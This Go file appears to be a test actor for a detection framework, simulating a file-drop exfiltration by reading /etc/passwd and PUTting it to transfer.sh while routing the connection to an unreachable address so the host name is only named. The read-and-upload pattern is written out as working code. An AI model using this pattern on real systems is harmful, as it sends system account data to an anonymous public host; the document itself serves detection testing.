// Command poster uploads a file to a place for anonymous files. It knows the
// name of such a place, but never asks where that is: it connects to an address
// at which nobody can be, so that the name is only said.
//
// Rule: exfiltration/file-drop.
package main

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"time"

	"github.com/detonaut/detonaut/actors/stage"
	"github.com/detonaut/detonaut/actors/wire"
)

func main() { stage.Play(post) }

func post(ctx context.Context) error {
	text, err := os.ReadFile("/etc/passwd")
	if err != nil {
		return err
	}
	d := net.Dialer{Timeout: 5 * time.Second}
	client := &http.Client{Transport: &http.Transport{
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return d.DialContext(ctx, network, wire.Stranger+":443")
		},
	}}
	link, err := wire.Request(ctx, client, http.MethodPut, "https://transfer.sh/accounts.txt", text)
	if err != nil {
		return err
	}
	fmt.Printf("%s", link)
	return nil
}
